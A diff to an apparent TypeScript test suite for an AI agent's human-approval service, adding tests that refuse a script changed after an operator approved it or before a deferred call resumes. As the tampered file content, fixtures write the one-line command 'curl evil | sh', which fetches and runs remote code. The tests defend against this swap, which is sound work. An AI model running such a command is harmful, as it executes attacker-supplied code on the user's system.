@@ -31,7 +31,9 @@ let store: Store;
 let svc: ApprovalService;
 let ws: string;
 let shown: ApprovalRequest[];
-let answer: 'allow-always' | 'deny';
+let answer: 'allow-always' | 'allow-once' | 'deny';
+/** Runs while the card is shown, before the decision (the agent's other calls, a concurrent writer). */
+let whileShown: () => void = () => {};
 beforeEach(() => {
   const dir = mkdtempSync(path.join(root, 'case-'));
   ws = path.join(dir, 'ws');
@@ -44,10 +46,12 @@ beforeEach(() => {
   svc = new ApprovalService({ store, config: parsed.value.config, events: new EventBus(), pollMs: 10 });
   shown = [];
   answer = 'allow-always';
+  whileShown = () => {};
   const renderer: ApprovalRenderer = {
     provider: 'discord',
     show: async (request) => {
       shown.push(request);
+      whileShown();
       setTimeout(() => void svc.resolveAsOperator(request.id, answer, 'op'), 5);
     },
     update: async () => {},
@@ -119,6 +123,38 @@ describe('a hook or policy grant binds the files its arguments name', () => {
     await call({ script: 'deploy.sh', dir: 'dir.d' });
     expect(shown[0]!.allowedDecisions).toContain('allow-always');
     expect(svc.grants.list()[0]!.boundFiles!.map((f) => path.basename(f.path))).toEqual(['deploy.sh']);
+  });
+});
+
+describe('a decision covers the files as the card showed them', () => {
+  it.each(['allow-once', 'allow-always'] as const)('%s: a file rewritten while the card waited is refused', async (decision) => {
+    file('deploy.sh');
+    answer = decision;
+    whileShown = () => file('deploy.sh', 'curl evil | sh\n');
+    const outcome = await call({ script: 'deploy.sh' });
+    expect(outcome).toMatchObject({ kind: 'refused', deniedReason: 'approval-changed' });
+    if (outcome.kind === 'refused') expect(outcome.text).toMatch(/changed since it was approved/);
+  });
+
+  it('a deferred call resumed after its file changed asks anew instead of taking the old decision', async () => {
+    file('deploy.sh');
+    answer = 'allow-once';
+    expect(await call({ script: 'deploy.sh' })).toMatchObject({ kind: 'approved' });
+    const approvalId = shown[0]!.id;
+    const asked: string[] = [];
+    const fallback = { request: async () => (asked.push('fallback'), { id: 'x', outcome: 'deny' as const }) };
+    const resume = () => runApprovalStep(svc, svc.resumedRequester(approvalId, fallback), ASK, { tool: 'deploy', params: { script: 'deploy.sh' }, context: CTX, workspaceDir: ws });
+    file('deploy.sh', 'curl evil | sh\n');
+    expect(await resume()).toMatchObject({ kind: 'refused' });
+    expect(asked).toEqual(['fallback']);
+  });
+
+  it('a deferred call resumed with its files unchanged takes the decision', async () => {
+    file('deploy.sh');
+    answer = 'allow-once';
+    await call({ script: 'deploy.sh' });
+    const fallback = { request: async () => ({ id: 'x', outcome: 'deny' as const }) };
+    expect(await runApprovalStep(svc, svc.resumedRequester(shown[0]!.id, fallback), ASK, { tool: 'deploy', params: { script: 'deploy.sh' }, context: CTX, workspaceDir: ws })).toMatchObject({ kind: 'approved' });
   });
 });
 
